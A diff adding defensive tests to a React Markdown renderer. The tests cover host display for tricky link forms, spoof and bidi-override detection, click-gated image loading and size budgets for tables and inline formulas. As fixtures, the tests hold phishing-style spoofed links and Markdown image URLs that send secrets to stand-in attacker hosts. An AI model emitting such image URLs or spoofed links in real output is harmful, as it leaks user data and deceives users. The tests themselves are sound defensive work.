@@ -2,6 +2,7 @@ import { cleanup, fireEvent, render } from '@testing-library/react';
 import fc from 'fast-check';
 import { afterEach, describe, expect, it } from 'vitest';
 import { Markdown } from './markdown.js';
+import { INLINE_BUDGET, TABLE_BUDGET } from './markdown-node.js';
 import { AllowedImageOriginsContext } from '../media/media-policy.js';
 
 afterEach(cleanup);
@@ -116,6 +117,25 @@ describe('Markdown', () => {
     expect(bare!.getAttribute('rel')).toBe('noopener noreferrer');
   });
 
+  it('shows the host a link really opens: `//`, `\\\\` and `/\\` forms name a host, resolved as the browser does', () => {
+    const { container } = render(<Markdown text={'[a](//evil.example/landing) [b](\\\\evil.example/x) [c](/\\evil.example/y) [d](/docs/page)'} />);
+    const links = [...container.querySelectorAll('a')];
+    expect(links.map((link) => link.getAttribute('href'))).toEqual(['https://evil.example/landing', 'https://evil.example/x', 'https://evil.example/y', '/docs/page']);
+    expect(links.map((link) => link.querySelector('.acu-markdown__host')?.textContent ?? null)).toEqual(['(evil.example)', '(evil.example)', '(evil.example)', null]);
+  });
+
+  it('marks a link whose text reads as a URL of another host, and keeps bidi controls from reordering the host label', () => {
+    const { container } = render(<Markdown text={'[https://bank.example/login](//evil.example/landing) [bank.example](https://bank.example/x) [\u202emoc.knab](https://evil.example/)'} />);
+    const [spoof, honest, reversed] = [...container.querySelectorAll('a')];
+    expect(spoof!.dataset.kind).toBe('mismatch');
+    expect(spoof!.textContent).toBe('https://bank.example/login (⚠ evil.example)');
+    expect(honest!.dataset.kind).toBeUndefined();
+    expect(honest!.textContent).toBe('bank.example (bank.example)');
+    // The override is gone from the text, and the label is isolated from it in a <bdi>.
+    expect(reversed!.textContent).toBe('moc.knab (⚠ evil.example)');
+    expect(reversed!.querySelector('.acu-markdown__host')!.tagName).toBe('BDI');
+  });
+
   it('loads an image from another origin only after a click, unless its origin is allowed; data: and same-origin load', () => {
     const text = '![secret](https://attacker.example/collect?secret=1) ![ok](https://cdn.example.com/a.png) ![inline](data:image/png;base64,AAAA) ![local](/logo.png)';
     const blocked = render(<Markdown text={text} />);
@@ -138,6 +158,37 @@ describe('Markdown', () => {
     expect(allowedSources).toContain('https://cdn.example.com/a.png');
     expect(allowedSources).not.toContain('https://attacker.example/collect?secret=1');
     expect(allowed.container.querySelector('img')!.getAttribute('referrerpolicy')).toBe('no-referrer');
+  });
+
+  it('a click loads one exact image URL: the same place re-rendered with another URL (a final message) asks again', () => {
+    const view = render(<Markdown text="![chart](https://cdn.example/chart.png)" />);
+    fireEvent.click(view.getByRole('button', { name: 'Load image from cdn.example' }));
+    expect(view.container.querySelector('img')?.getAttribute('src')).toBe('https://cdn.example/chart.png');
+    view.rerender(<Markdown text="![chart](https://evil.example/leak.png?d=secret)" complete />);
+    expect(view.container.querySelector('img')).toBeNull();
+    expect(view.getByRole('button', { name: 'Load image from evil.example' })).toBeTruthy();
+  });
+
+  it('a table past its budget (3,000 columns) shows as text with a note; one within it renders as a table', () => {
+    const row = (cells: number) => `| ${Array.from({ length: cells }, (_, index) => `c${index}`).join(' | ')} |`;
+    const table = (cells: number) => [row(cells), `| ${Array.from({ length: cells }, () => '---').join(' | ')} |`, row(cells)].join('\n');
+    const wide = render(<Markdown text={table(3000)} complete />);
+    expect(wide.container.querySelector('table')).toBeNull();
+    const source = wide.container.querySelector('.acu-markdown__table-source[data-state="too-large"]')!;
+    expect(source.querySelector('code')!.textContent).toContain('| c0 | c1 | c2 |');
+    expect(source.textContent).toContain('Too large to draw: shown as source.');
+    cleanup();
+    const fine = render(<Markdown text={table(TABLE_BUDGET.maxColumns)} complete />);
+    expect(fine.container.querySelectorAll('th')).toHaveLength(TABLE_BUDGET.maxColumns);
+  });
+
+  it('a block renders its first inline children as elements, the rest (25,000 formulas) as their source text', () => {
+    const { container } = render(<Markdown text={'$a'.repeat(50_000)} complete />);
+    const paragraph = container.querySelector('p')!;
+    expect(paragraph.querySelectorAll('.acu-math')).toHaveLength(INLINE_BUDGET / 2);
+    const tail = paragraph.querySelector('.acu-markdown__inline-tail')!;
+    expect(tail.textContent!.startsWith('$a$a$a')).toBe(true);
+    expect(paragraph.textContent!.length).toBeGreaterThan(75_000);
   });
 
   it('renders 3,000 nested blockquotes and lists without overflowing the stack: the deep text shows as text', () => {
